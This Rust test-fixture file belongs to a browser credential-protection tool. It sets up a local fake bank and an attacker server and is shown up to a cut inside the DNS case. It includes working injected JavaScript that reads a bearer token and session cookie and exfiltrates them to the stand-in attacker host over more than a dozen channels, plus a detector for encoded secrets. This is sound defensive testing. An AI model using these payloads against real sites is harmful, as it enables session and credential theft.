//! Fixtures of the credential tests: a "bank" whose pages need its session, which reflects
//! request headers and records every request; an "attacker" that records every byte it
//! receives (WebSocket frames unmasked); and the browser under test, which is chaperone or, to
//! prove that each attack really carries data when nothing stops it, bare Chromium
//! (`CHAPERONE_CRED_BARE=1`).
//!
//! Both sites are real HTTP/1.1 servers on 127.0.0.1 that the browser reaches by name
//! (`bank.test`, `attacker.test`, `*.attacker.test`, `plain.test`).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
use base64::Engine;
use serde_json::{json, Value};

use super::{Cdp, Supervisor};

/// The mandate's cookie value for `sid` on bank.test.
pub const SID: &str = "SECRET-COOKIE-7d1f0c";
/// The mandate's bearer token for bank.test.
pub const TOKEN: &str = "SECRET-TOKEN-93ab2e";
/// The HttpOnly session cookie the bank's login sets.
pub const SESSION: &str = "SECRET-SESSION-5e7a11";
/// A cookie the bank's login sets without HttpOnly (a double-submit CSRF token, as many sites
/// have): the one a page script could read if the browser ever stored the bank's cookies.
pub const CSRF: &str = "SECRET-CSRF-2c9d44";

/// Names of every cookie chaperone holds for the bank in these tests.
pub const HELD_COOKIES: &[&str] = &["sid", "bank_session", "bank_csrf"];

/// Whether this run checks the attacks against bare Chromium instead of chaperone.
pub fn bare() -> bool {
    std::env::var_os("CHAPERONE_CRED_BARE").is_some_and(|v| v != "0" && !v.is_empty())
}

// ---------------------------------------------------------------------------------------------
// A recording HTTP/1.1 server
// ---------------------------------------------------------------------------------------------

/// One request as the server parsed it.
#[derive(Clone, Debug)]
pub struct Request {
    pub method: String,
    pub target: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Request {
    /// Every value of header `name` (case-insensitive).
    pub fn headers_named(&self, name: &str) -> Vec<&str> {
        self.headers
            .iter()
            .filter(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
            .collect()
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers_named(name).into_iter().next()
    }

    pub fn path(&self) -> &str {
        self.target.split('?').next().unwrap_or("")
    }

    /// A query parameter, percent-decoded.
    pub fn query(&self, key: &str) -> Option<String> {
        let q = self.target.split_once('?')?.1;
        url::form_urlencoded::parse(q.as_bytes())
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.into_owned())
    }

    /// Cookies from every `Cookie` header, as (name, value).
    pub fn cookies(&self) -> Vec<(String, String)> {
        self.headers_named("cookie")
            .into_iter()
            .flat_map(|h| h.split(';'))
            .filter_map(|kv| {
                let (k, v) = kv.trim().split_once('=')?;
                Some((k.to_string(), v.to_string()))
            })
            .collect()
    }

    pub fn has_cookie(&self, name: &str, value: &str) -> bool {
        self.cookies().iter().any(|(k, v)| k == name && v == value)
    }

    /// Whether the bank would take this request as its logged-in customer's.
    pub fn authenticated(&self) -> bool {
        self.has_cookie("bank_session", SESSION)
            || self.has_cookie("sid", SID)
            || self
                .headers_named("authorization")
                .contains(&format!("Bearer {TOKEN}").as_str())
    }
}

/// A request head as the fixtures' servers read it.
pub struct Head {
    pub method: String,
    pub target: String,
    pub headers: Vec<(String, String)>,
    /// From `Content-Length`; 0 without one.
    pub body_len: usize,
}

/// Parses a complete request head (up to and including the blank line).
pub fn parse_head(head: &[u8]) -> Option<Head> {
    let mut hdrs = [httparse::EMPTY_HEADER; 96];
    let mut parsed = httparse::Request::new(&mut hdrs);
    if !matches!(parsed.parse(head), Ok(httparse::Status::Complete(_))) {
        return None;
    }
    let headers: Vec<(String, String)> = parsed
        .headers
        .iter()
        .map(|h| {
            (
                h.name.to_string(),
                String::from_utf8_lossy(h.value).into_owned(),
            )
        })
        .collect();
    let body_len = headers
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case("content-length"))
        .and_then(|(_, v)| v.trim().parse::<usize>().ok())
        .unwrap_or(0);
    Some(Head {
        method: parsed.method.unwrap_or("").to_string(),
        target: parsed.path.unwrap_or("").to_string(),
        headers,
        body_len,
    })
}

/// What a handler answers.
pub enum Reply {
    Http {
        status: u16,
        headers: Vec<(String, String)>,
        body: Vec<u8>,
    },
    /// Accept a WebSocket upgrade and record the frames that follow.
    WebSocket,
    /// A `text/event-stream` answer with one event, then close.
    EventStream,
}

impl Reply {
    pub fn new(status: u16, content_type: &str, body: impl Into<Vec<u8>>) -> Reply {
        Reply::Http {
            status,
            headers: vec![("Content-Type".into(), content_type.into())],
            body: body.into(),
        }
    }

    pub fn html(body: impl Into<String>) -> Reply {
        Reply::new(200, "text/html; charset=utf-8", body.into())
    }

    pub fn js(body: impl Into<String>) -> Reply {
        Reply::new(200, "text/javascript", body.into())
    }

    pub fn redirect(to: &str) -> Reply {
        Reply::new(302, "text/plain", "redirect").with("Location", to)
    }

    pub fn with(mut self, name: &str, value: &str) -> Reply {
        if let Reply::Http { headers, .. } = &mut self {
            headers.push((name.into(), value.into()));
        }
        self
    }
}

pub type Handler = Arc<dyn Fn(&Request) -> Reply + Send + Sync>;

/// A server on 127.0.0.1 that records everything it receives.
pub struct Server {
    pub addr: SocketAddr,
    /// Parsed requests, in arrival order.
    pub requests: Arc<Mutex<Vec<Request>>>,
    /// Every byte received, one entry per connection: what reached the server, whether or not
    /// it parsed as HTTP (a TLS ClientHello lands here too).
    pub raw: Arc<Mutex<Vec<Vec<u8>>>>,
    /// Unmasked payloads of the WebSocket frames received.
    pub frames: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl Server {
    /// Serves `handler` on `listener`, recording everything.
    pub fn serve(listener: TcpListener, handler: Handler) -> Server {
        let addr = listener.local_addr().unwrap();
        let server = Server {
            addr,
            requests: Arc::default(),
            raw: Arc::default(),
            frames: Arc::default(),
        };
        let (requests, raw, frames) = (
            server.requests.clone(),
            server.raw.clone(),
            server.frames.clone(),
        );
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { break };
                let conn = Conn {
                    index: {
                        let mut raw = raw.lock().unwrap();
                        raw.push(Vec::new());
                        raw.len() - 1
                    },
                    raw: raw.clone(),
                    requests: requests.clone(),
                    frames: frames.clone(),
                    buf: Vec::new(),
                };
                let handler = handler.clone();
                std::thread::spawn(move || conn.run(stream, &*handler));
            }
        });
        server
    }

    pub fn port(&self) -> u16 {
        self.addr.port()
    }

    pub fn requests(&self) -> Vec<Request> {
        self.requests.lock().unwrap().clone()
    }

    /// Requests to `path`.
    pub fn requests_to(&self, path: &str) -> Vec<Request> {
        self.requests()
            .into_iter()
            .filter(|r| r.path() == path)
            .collect()
    }

    /// Everything received: raw bytes of every connection and every unmasked WebSocket payload.
    pub fn everything(&self) -> Vec<u8> {
        let mut all = Vec::new();
        for c in self.raw.lock().unwrap().iter() {
            all.extend_from_slice(c);
            all.push(b'\n');
        }
        for f in self.frames.lock().unwrap().iter() {
            all.extend_from_slice(f);
            all.push(b'\n');
        }
        all
    }

    /// A readable dump for failure messages.
    pub fn dump(&self) -> String {
        String::from_utf8_lossy(&self.everything()).into_owned()
    }
}

struct Conn {
    index: usize,
    raw: Arc<Mutex<Vec<Vec<u8>>>>,
    requests: Arc<Mutex<Vec<Request>>>,
    frames: Arc<Mutex<Vec<Vec<u8>>>>,
    buf: Vec<u8>,
}

const TLS_HANDSHAKE: u8 = 0x16;

impl Conn {
    /// Reads more bytes into the buffer, recording them; false at EOF or error.
    fn more(&mut self, s: &mut TcpStream) -> bool {
        let mut chunk = [0u8; 16384];
        match s.read(&mut chunk) {
            Ok(0) | Err(_) => false,
            Ok(n) => {
                self.raw.lock().unwrap()[self.index].extend_from_slice(&chunk[..n]);
                self.buf.extend_from_slice(&chunk[..n]);
                true
            }
        }
    }

    fn fill(&mut self, s: &mut TcpStream, n: usize) -> bool {
        while self.buf.len() < n {
            if !self.more(s) {
                return false;
            }
        }
        true
    }

    fn run(mut self, mut s: TcpStream, handler: &(dyn Fn(&Request) -> Reply + Send + Sync)) {
        let _ = s.set_read_timeout(Some(Duration::from_secs(30)));
        loop {
            // A TLS ClientHello (wss:// or https:// to this plain server): keep the first record,
            // which carries the SNI, and hang up; no certificate could be trusted anyway.
            if self.fill(&mut s, 1) && self.buf[0] == TLS_HANDSHAKE {
                if self.fill(&mut s, 5) {
                    let len = u16::from_be_bytes([self.buf[3], self.buf[4]]) as usize;
                    self.fill(&mut s, 5 + len);
                }
                return;
            }
            let head_end = loop {
                if let Some(e) = find(&self.buf, b"\r\n\r\n") {
                    break e + 4;
                }
                if !self.more(&mut s) {
                    return;
                }
            };
            let Some(Head {
                method,
                target,
                headers,
                body_len: len,
            }) = parse_head(&self.buf[..head_end])
            else {
                return;
            };
            if !self.fill(&mut s, head_end + len) {
                return;
            }
            let body = self.buf[head_end..head_end + len].to_vec();
            self.buf.drain(..head_end + len);
            let req = Request {
                method,
                target,
                headers,
                body,
            };
            self.requests.lock().unwrap().push(req.clone());
            match handler(&req) {
                Reply::Http {
                    status,
                    headers,
                    body,
                } => {
                    let mut out = format!("HTTP/1.1 {status} X\r\n");
                    for (k, v) in &headers {
                        out.push_str(&format!("{k}: {v}\r\n"));
                    }
                    out.push_str(&format!(
                        "Content-Length: {}\r\nCache-Control: no-store\r\nConnection: keep-alive\r\n\r\n",
                        body.len()
                    ));
                    let mut bytes = out.into_bytes();
                    bytes.extend_from_slice(&body);
                    if s.write_all(&bytes).is_err() {
                        return;
                    }
                }
                Reply::EventStream => {
                    let _ = s.write_all(
                        b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nCache-Control: no-store\r\n\
                          Access-Control-Allow-Origin: *\r\nConnection: close\r\n\r\ndata: hi\n\n",
                    );
                    return;
                }
                Reply::WebSocket => {
                    let key = req.header("sec-websocket-key").unwrap_or("").to_string();
                    let accept = tokio_tungstenite::tungstenite::handshake::derive_accept_key(
                        key.as_bytes(),
                    );
                    // No Sec-WebSocket-Extensions: frames stay uncompressed, so what the page
                    // sent is what gets recorded.
                    let head = format!(
                        "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: {accept}\r\n\r\n"
                    );
                    if s.write_all(head.as_bytes()).is_ok() {
                        self.websocket(&mut s);
                    }
                    return;
                }
            }
        }
    }

    /// Records the unmasked payload of every frame until a close frame or EOF.
    fn websocket(&mut self, s: &mut TcpStream) {
        loop {
            if !self.fill(s, 2) {
                return;
            }
            let opcode = self.buf[0] & 0x0f;
            let masked = self.buf[1] & 0x80 != 0;
            let mut len = (self.buf[1] & 0x7f) as usize;
            let mut pos = 2;
            if len == 126 {
                if !self.fill(s, 4) {
                    return;
                }
                len = u16::from_be_bytes([self.buf[2], self.buf[3]]) as usize;
                pos = 4;
            } else if len == 127 {
                if !self.fill(s, 10) {
                    return;
                }
                let mut b = [0u8; 8];
                b.copy_from_slice(&self.buf[2..10]);
                len = u64::from_be_bytes(b) as usize;
                pos = 10;
            }
            if len > 16 << 20 {
                return;
            }
            let mut mask = [0u8; 4];
            if masked {
                if !self.fill(s, pos + 4) {
                    return;
                }
                mask.copy_from_slice(&self.buf[pos..pos + 4]);
                pos += 4;
            }
            if !self.fill(s, pos + len) {
                return;
            }
            let payload: Vec<u8> = self.buf[pos..pos + len]
                .iter()
                .enumerate()
                .map(|(i, b)| b ^ mask[i % 4])
                .collect();
            self.buf.drain(..pos + len);
            self.frames.lock().unwrap().push(payload);
            if opcode == 8 {
                let _ = s.write_all(&[0x88, 0x00]);
                return;
            }
        }
    }
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    h.windows(n.len()).position(|w| w == n)
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

// ---------------------------------------------------------------------------------------------
// Finding a secret in anything, in every encoding an exfiltrating page would use
// ---------------------------------------------------------------------------------------------

/// Every fake secret of these tests (the harness's list, which includes the bank's).
pub fn secrets() -> &'static [&'static str] {
    super::FAKE_SECRETS
}

/// The base64 characters that depend only on `s`, for `s` placed at each of the three byte
/// alignments inside a longer encoded string.
fn base64_cores(engine: &impl Engine, s: &[u8]) -> Vec<String> {
    (0..3)
        .map(|k| {
            let mut v = vec![0u8; k];
            v.extend_from_slice(s);
            let enc = engine.encode(&v);
            let start = (8 * k).div_ceil(6);
            let end = 8 * (k + s.len()) / 6;
            enc[start..end].to_string()
        })
        .collect()
}

/// Forms of `secret` to look for: (description, needle, case-insensitive).
fn forms(secret: &str) -> Vec<(String, Vec<u8>, bool)> {
    let b = secret.as_bytes();
    let mut v = vec![
        ("raw".to_string(), b.to_vec(), true),
        ("hex".to_string(), hex::encode(b).into_bytes(), true),
        (
            "percent-encoded".to_string(),
            b.iter()
                .map(|c| format!("%{c:02X}"))
                .collect::<String>()
                .into_bytes(),
            true,
        ),
    ];
    for (i, core) in base64_cores(&STANDARD_NO_PAD, b).into_iter().enumerate() {
        v.push((format!("base64 (alignment {i})"), core.into_bytes(), false));
    }
    for (i, core) in base64_cores(&URL_SAFE_NO_PAD, b).into_iter().enumerate() {
        v.push((
            format!("base64url (alignment {i})"),
            core.into_bytes(),
            false,
        ));
    }
    v
}

/// Decodes every `%XX` (and nothing else), so that partly percent-encoded and
/// percent-encoded base64 forms are found too.
fn percent_decoded(h: &[u8]) -> Vec<u8> {
    percent_encoding::percent_decode(h).collect()
}

/// Which secrets `hay` contains, and how ("SECRET-… as base64 (alignment 1)").
pub fn secrets_in(hay: &[u8]) -> Vec<String> {
    values_in(hay, secrets())
}

/// Which of `values` `hay` contains, in any of the forms [`secrets_in`] looks for.
pub fn values_in<S: AsRef<str>>(hay: &[u8], values: &[S]) -> Vec<String> {
    let decoded = percent_decoded(hay);
    let lower: Vec<Vec<u8>> = [hay, &decoded[..]]
        .iter()
        .map(|h| h.to_ascii_lowercase())
        .collect();
    let mut found = Vec::new();
    for s in values.iter().map(AsRef::as_ref) {
        for (what, needle, fold) in forms(s) {
            let hit = if fold {
                let n = needle.to_ascii_lowercase();
                lower.iter().any(|h| find(h, &n).is_some())
            } else {
                [hay, &decoded[..]]
                    .iter()
                    .any(|h| find(h, &needle).is_some())
            };
            if hit {
                found.push(format!("{s} as {what}"));
            }
        }
    }
    found
}

/// Asserts that `text` holds no secret in any form; the failure shows the offending lines.
pub fn assert_clean(what: &str, text: &[u8]) {
    let found = secrets_in(text);
    if found.is_empty() {
        return;
    }
    let lines: Vec<String> = text
        .split(|b| *b == b'\n')
        .filter(|l| !secrets_in(l).is_empty())
        .take(5)
        .map(|l| String::from_utf8_lossy(l).chars().take(3000).collect())
        .collect();
    panic!("{what} contains {found:?} in:\n{}", lines.join("\n"));
}

/// Removes `Authorization:` and `Cookie:` header lines. Bare Chromium stands in for injection
/// with `Network.setExtraHTTPHeaders`, which puts the token on every request the page makes;
/// what proves that an attack carried a secret is the secret elsewhere.
fn without_ambient_credentials(h: &[u8]) -> Vec<u8> {
    String::from_utf8_lossy(h)
        .split('\n')
        .filter(|l| {
            let l = l.trim_start().to_ascii_lowercase();
            !l.starts_with("authorization:") && !l.starts_with("cookie:")
        })
        .collect::<Vec<_>>()
        .join("\n")
        .into_bytes()
}

// ---------------------------------------------------------------------------------------------
// The two sites
// ---------------------------------------------------------------------------------------------

/// URLs both sites' pages use, known before either server starts.
#[derive(Clone)]
struct Origins {
    bank: String,
    attacker: String,
    attacker_port: u16,
}

/// The bank and the attacker, running.
pub struct Sites {
    pub bank: Server,
    pub attacker: Server,
    /// `http://bank.test:<port>`
    pub bank_url: String,
    /// `http://attacker.test:<port>`
    pub attacker_url: String,
    pub attacker_port: u16,
}

impl Sites {
    pub fn start() -> Sites {
        let bank_l = TcpListener::bind("127.0.0.1:0").unwrap();
        let attacker_l = TcpListener::bind("127.0.0.1:0").unwrap();
        let o = Origins {
            bank: format!("http://bank.test:{}", bank_l.local_addr().unwrap().port()),
            attacker: format!(
                "http://attacker.test:{}",
                attacker_l.local_addr().unwrap().port()
            ),
            attacker_port: attacker_l.local_addr().unwrap().port(),
        };
        let (ob, oa) = (o.clone(), o.clone());
        Sites {
            bank: Server::serve(bank_l, Arc::new(move |r| bank(r, &ob))),
            attacker: Server::serve(attacker_l, Arc::new(move |r| attacker(r, &oa))),
            bank_url: o.bank,
            attacker_url: o.attacker,
            attacker_port: o.attacker_port,
        }
    }
}

fn fill(s: &str, o: &Origins) -> String {
    s.replace("__A__", &o.attacker)
        .replace("__B__", &o.bank)
        .replace("__AP__", &o.attacker_port.to_string())
}

const WELCOME: &str =
    "<!doctype html><title>account</title><h1 id=msg>welcome</h1><p>balance: 100</p>";
const LOGIN_REQUIRED: &str = "<!doctype html><title>account</title><h1 id=msg>login required</h1>";

fn bank(r: &Request, o: &Origins) -> Reply {
    match (r.method.as_str(), r.path()) {
        ("GET", "/login") => Reply::html(format!(
            "<!doctype html><title>login</title>\
             <form method=POST action=/login><input name=user value=alice>\
             <input name=pass type=password value=wonderland><button>Sign in</button></form>{}",
            if r.query("auto").is_some() {
                "<script>document.forms[0].submit()</script>"
            } else {
                ""
            }
        )),
        ("POST", "/login") => Reply::redirect("/account")
            .with(
                "Set-Cookie",
                // Valid for a year, as sites' "remember me" sessions are: the mandate's own
                // clock must end the session long before (tests/governance.rs).
                &format!("bank_session={SESSION}; HttpOnly; Path=/; Max-Age=31536000"),
            )
            .with("Set-Cookie", &format!("bank_csrf={CSRF}; Path=/")),
        (_, "/account") if r.authenticated() => Reply::html(WELCOME),
        (_, "/account/session") if r.has_cookie("bank_session", SESSION) => Reply::html(WELCOME),
        (_, "/account" | "/account/session") => {
            Reply::new(401, "text/html; charset=utf-8", LOGIN_REQUIRED)
        }
        (_, "/echo") => {
            let lines: String = r
                .headers
                .iter()
                .map(|(k, v)| format!("{}: {}\n", k.to_ascii_lowercase(), escape(v)))
                .collect();
            let then = if r.query("then").as_deref() == Some("exfil") {
                fill(ECHO_EXFIL, o)
            } else {
                String::new()
            };
            Reply::html(format!(
                "<!doctype html><title>echo</title><pre id=h>{lines}</pre>{then}"
            ))
        }
        (_, "/transfer") => {
            if r.authenticated() {
                Reply::html("<p id=msg>transfer done</p>")
            } else {
                Reply::new(403, "text/html", "<p id=msg>transfer refused</p>")
            }
        }
        ("GET", "/api") => Reply::new(200, "application/json", r#"{"balance":100}"#),
        (_, "/go") => Reply::redirect(&r.query("to").unwrap_or_else(|| "/".into())),
        ("GET", "/static/worker.js") => Reply::js(fill("importScripts('__A__/worker.js');", o)),
        ("GET", "/watch") => Reply::html(fill(WATCH, o)),
        ("POST", "/report") => Reply::new(204, "text/plain", ""),
        ("GET", p) if p.starts_with("/xss/") => match attack_js(&p[5..]) {
            Some(js) => Reply::html(format!(
                "<!doctype html><title>bank</title><body><p id=msg>bank page</p>\
                 <script>{}{}</script></body>",
                fill(PRELUDE, o),
                fill(js, o)
            )),
            None => Reply::new(404, "text/plain", "no such attack"),
        },
        _ => Reply::new(404, "text/plain", "not found"),
    }
}

fn attacker(r: &Request, o: &Origins) -> Reply {
    let cors = |reply: Reply| reply.with("Access-Control-Allow-Origin", "*");
    if r.method == "OPTIONS" {
        return Reply::new(204, "text/plain", "")
            .with("Access-Control-Allow-Origin", "*")
            .with("Access-Control-Allow-Headers", "*")
            .with("Access-Control-Allow-Methods", "*");
    }
    let upgrade = r
        .header("upgrade")
        .is_some_and(|u| u.eq_ignore_ascii_case("websocket"));
    match r.path() {
        "/ws" if upgrade => Reply::WebSocket,
        "/sse" => Reply::EventStream,
        "/worker.js" => Reply::js(
            "onmessage = e => fetch(e.data.url, {mode: 'no-cors'})\
             .then(() => postMessage('sent'), er => postMessage('' + er));",
        ),
        "/sw.js" => Reply::js(SERVICE_WORKER),
        "/sw.html" => Reply::html(SW_PAGE),
        "/img" => Reply::new(
            200,
            "image/gif",
            STANDARD_NO_PAD
                .decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
                .unwrap(),
        ),
        "/script.js" => cors(Reply::js("void 0;")),
        "/r" => Reply::redirect(&r.query("to").unwrap_or_else(|| "/".into())),
        // 307 keeps the method and body: a POST that lands on the bank after a cross-site hop.
        "/r307" => Reply::new(307, "text/plain", "redirect")
            .with("Location", &r.query("to").unwrap_or_else(|| "/".into())),
        "/setcookie" => {
            cors(Reply::html("cookie set")).with("Set-Cookie", "atk=attacker-own-cookie; Path=/")
        }
        "/unlisted" => Reply::html(format!(
            "<!doctype html><p>attacker</p><script>{UNLISTED}</script>"
        )),
        p if p.starts_with("/csrf/") => match csrf_page(&p[6..]) {
            Some(page) => Reply::html(fill(page, o)),
            None => Reply::new(404, "text/plain", "no such attack"),
        },
        _ => cors(Reply::html("<!doctype html><p>ok</p>")),
    }
}

// ---------------------------------------------------------------------------------------------
// Pages
// ---------------------------------------------------------------------------------------------

/// Shared by every attack page on the bank (a script injected into the bank's own origin, the
/// worst case): `loot()` reads the credentials chaperone added to a same-origin request back
/// from `/echo`; `attack()` runs the page's `run(tok, sid)` and answers whether the page had the
/// material, plus what each step did (never the values).
const PRELUDE: &str = r#"
const A = '__A__', B = '__B__', AP = '__AP__', WA = A.replace('http:', 'ws:');
const AL = 'http://attacker.localhost:' + AP;
const out = [];
const sleep = ms => new Promise(r => setTimeout(r, ms));
// Bounds a step whose events may never fire (a refused navigation); a bound, not a verdict.
const within = (p, ms = 5000) => Promise.race([p, sleep(ms).then(() => 'no event within ' + ms + ' ms')]);
async function step(name, f) {
  try { out.push(name + ': ' + await within(Promise.resolve().then(f))); }
  catch (e) { out.push(name + ': ' + e); }
}
async function loot() {
  const t = await (await fetch('/echo', {cache: 'no-store'})).text();
  const tok = (t.match(/Bearer ([A-Za-z0-9._~+\/=-]+)/) || [])[1] || '';
  const sid = (t.match(/\bsid=([A-Za-z0-9._~-]+)/) || [])[1] || '';
  return {tok, sid};
}
const settled = el => new Promise(res => { el.onload = () => res('load'); el.onerror = () => res('error'); });
function frame(src, name) {
  const f = document.createElement('iframe');
  if (name) f.name = name;
  const p = settled(f);
  f.src = src;
  document.body.append(f);
  return p;
}
const img = src => { const i = new Image(); const p = settled(i); i.src = src; return p; };
const hex = s => [...s].map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
const pct = s => [...s].map(c => '%' + c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')).join('');
const b64 = s => btoa(s);
const b64url = s => btoa(s).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
const sent = p => p.then(() => 'sent');
window.attack = async () => {
  const l = await loot();
  await run(l.tok, l.sid);
  return {found: l.tok.length > 0 && l.sid.length > 0, out};
};
"#;

/// The exfiltration step of each attack page on the bank. Each sends the looted values, then a
/// canary (`canary=<name>`) over the same channel: the canary's arrival proves the channel works
/// through the browser under test and that the page ran to the end. WebSocket pages send the
/// canary first: chaperone may end the session on a WebSocket leak (see `credentials.rs`).
fn attack_js(name: &str) -> Option<&'static str> {
    Some(match name {
        "fetch" => {
            r#"async function run(tok, sid) {
  await step('fetch', () => sent(fetch(A + '/collect?via=fetch&d=' + tok + '&s=' + sid, {mode: 'no-cors'})));
  await step('canary', () => sent(fetch(A + '/collect?canary=fetch', {mode: 'no-cors'})));
}"#
        }
        "xhr" => {
            r#"const xhr = (url, body) => new Promise(res => {
  const x = new XMLHttpRequest(); x.open('POST', url);
  x.onload = () => res('sent'); x.onerror = () => res('error'); x.send(body);
});
async function run(tok, sid) {
  await step('xhr', () => xhr(A + '/collect?via=xhr', 'd=' + tok + '&s=' + sid));
  await step('canary', () => xhr(A + '/collect?canary=xhr', 'x=1'));
}"#
        }
        "image" => {
            r#"async function run(tok, sid) {
  await step('image', () => img(A + '/img?via=image&d=' + tok + '&s=' + sid));
  await step('canary', () => img(A + '/img?canary=image'));
}"#
        }
        "script" => {
            r#"const script = src => { const s = document.createElement('script'); const p = settled(s); s.src = src; document.head.append(s); return p; };
async function run(tok, sid) {
  await step('script', () => script(A + '/script.js?via=script&d=' + tok + '&s=' + sid));
  await step('canary', () => script(A + '/script.js?canary=script'));
}"#
        }
        "form" => {
            r#"function post(action, fields, target) {
  const f = document.createElement('form'); f.method = 'POST'; f.action = action; f.target = target;
  for (const [k, v] of Object.entries(fields)) { const i = document.createElement('input'); i.type = 'hidden'; i.name = k; i.value = v; f.append(i); }
  document.body.append(f); f.submit();
}
async function run(tok, sid) {
  const sink = document.createElement('iframe'); sink.name = 'sink'; document.body.append(sink);
  await step('form', () => { const p = settled(sink); post(A + '/collect?via=form', {d: tok, s: sid}, 'sink'); return p; });
  await step('canary', () => { const p = settled(sink); post(A + '/collect?canary=form', {x: '1'}, 'sink'); return p; });
}"#
        }
        "beacon" => {
            r#"async function run(tok, sid) {
  await step('beacon', () => navigator.sendBeacon(A + '/collect?via=beacon', 'd=' + tok + '&s=' + sid) ? 'queued' : 'refused');
  await step('canary', () => navigator.sendBeacon(A + '/collect?canary=beacon', 'x=1') ? 'queued' : 'refused');
}"#
        }
        "websocket" => {
            r#"const ws = (url, msg) => new Promise(res => {
  const w = new WebSocket(url);
  w.onopen = () => { w.send(msg); w.close(); res('sent'); };
  w.onerror = () => res('error');
});
async function run(tok, sid) {
  await step('canary', () => ws(WA + '/ws?canary=websocket', 'canary'));
  await step('ws', () => ws(WA + '/ws?via=websocket&d=' + tok, 'sid=' + sid + '&tok=' + tok));
}"#
        }
        "websocket-frame" => {
            r#"const ws = (url, msg) => new Promise(res => {
  const w = new WebSocket(url);
  w.onopen = () => { w.send(msg); setTimeout(() => { w.close(); res('sent'); }, 200); };
  w.onerror = () => res('error');
});
async function run(tok, sid) {
  await step('canary', () => ws(WA + '/ws?canary=websocket-frame', 'canary'));
  await step('ws', () => ws(WA + '/ws?via=websocket-frame', 'sid=' + sid + '&tok=' + tok));
}"#
        }
        // The attacker has no certificate the browser trusts (chaperone adds no trust anchor and
        // bare Chromium gets no --ignore-certificate-errors), so a wss:// URL's path and frames
        // never get past the TLS handshake. What does leave in clear is the host name: the
        // CONNECT request and the ClientHello's SNI. That is the channel tested here.
        "wss" => {
            r#"const wss = url => new Promise(res => {
  const w = new WebSocket(url);
  w.onopen = () => { w.close(); res('open'); };
  w.onerror = () => res('error');
});
async function run(tok, sid) {
  await step('canary', () => wss('wss://canary.attacker.test:' + AP + '/ws'));
  await step('wss', () => wss('wss://' + sid.toLowerCase() + '.attacker.test:' + AP + '/ws'));
}"#
        }
        "eventsource" => {
            r#"const es = url => new Promise(res => {
  const e = new EventSource(url);
  e.onmessage = () => { e.close(); res('message'); };
  e.onerror = () => { e.close(); res('error'); };
});
async function run(tok, sid) {
  await step('eventsource', () => es(A + '/sse?via=eventsource&d=' + tok + '&s=' + sid));
  await step('canary', () => es(A + '/sse?canary=eventsource'));
}"#
        }
        // A same-origin worker that pulls its code from the attacker (importScripts is allowed
        // cross-origin) and sends what the page posts it.
        "worker" => {
            r#"async function run(tok, sid) {
  const w = new Worker('/static/worker.js');
  const ask = url => new Promise(res => { w.onmessage = m => res(m.data); w.onerror = e => res('error ' + e.message); w.postMessage({url}); });
  await step('worker', () => ask(A + '/collect?via=worker&d=' + tok + '&s=' + sid));
  await step('canary', () => ask(A + '/collect?canary=worker'));
}"#
        }
        // The bank's cookie block also stops service workers on the bank, so the realistic path
        // is the attacker's own: the bank page hands the values to an attacker window, whose
        // service worker sends them. Service workers need a secure context all the way up:
        // plain http://attacker.test is none, http://attacker.localhost is (Chromium counts
        // every *.localhost name as loopback) but not inside an http://bank.test page, so the
        // attacker's page is a popup.
        "serviceworker" => {
            r#"async function run(tok, sid) {
  const msgs = [];
  let wake = () => {};
  addEventListener('message', e => { msgs.push(e.data); wake(); });
  const next = async () => { while (!msgs.length) await new Promise(r => wake = r); return msgs.shift(); };
  const w = window.open(AL + '/sw.html');
  await step('register', async () => JSON.stringify(await next()));
  const ask = async url => { w.postMessage({url}, '*'); return JSON.stringify(await next()); };
  await step('serviceworker', () => ask(A + '/collect?via=serviceworker&d=' + tok + '&s=' + sid));
  await step('canary', () => ask(A + '/collect?canary=serviceworker'));
}"#
        }
        "iframe" => {
            r#"async function run(tok, sid) {
  await step('iframe', () => frame(A + '/frame?via=iframe&d=' + tok + '&s=' + sid));
  await step('canary', () => frame(A + '/frame?canary=iframe'));
}"#
        }
        // Waits until the popup has committed something (the attacker's page or an error page:
        // either makes its location unreadable) before reusing it for the canary, so the canary
        // cannot cancel the first navigation before it was sent.
        "window_open" => {
            r#"async function run(tok, sid) {
  let w = null;
  await step('open', () => (w = window.open(A + '/collect?via=window_open&d=' + tok + '&s=' + sid)) ? 'opened' : 'blocked');
  await step('committed', async () => {
    for (let i = 0; i < 250; i++) { try { void w.location.href; } catch (e) { return 'yes'; } await sleep(20); }
    return 'no';
  });
  await step('canary', () => { w.location = A + '/collect?canary=window_open'; return 'navigated'; });
}"#
        }
        // bank -> bank (/go, the bank's open redirect) -> attacker: the first hop is where the
        // secret may go, the second is not; as a navigation and as a fetch.
        "redirect" => {
            r#"async function run(tok, sid) {
  const go = to => '/go?to=' + encodeURIComponent(to);
  await step('redirect-frame', () => frame(go(A + '/collect?via=redirect&d=' + tok)));
  await step('redirect-fetch', () => sent(fetch(go(A + '/collect?via=redirect-fetch&s=' + sid), {mode: 'no-cors'})));
  await step('redirect-clean', () => frame(go(A + '/landing?via=redirect-clean')));
  await step('canary', () => frame(go(A + '/collect?canary=redirect')));
}"#
        }
        "dns" => {
            r#"async function run(tok, sid) {
  const at = label => 'http://' + label + '.attacker.test:' + AP + '/collect?via=dns';
  await step('dns-raw', () => sent(fetch(at(sid.toLowerCase()), {mode: 'no-cors'})));
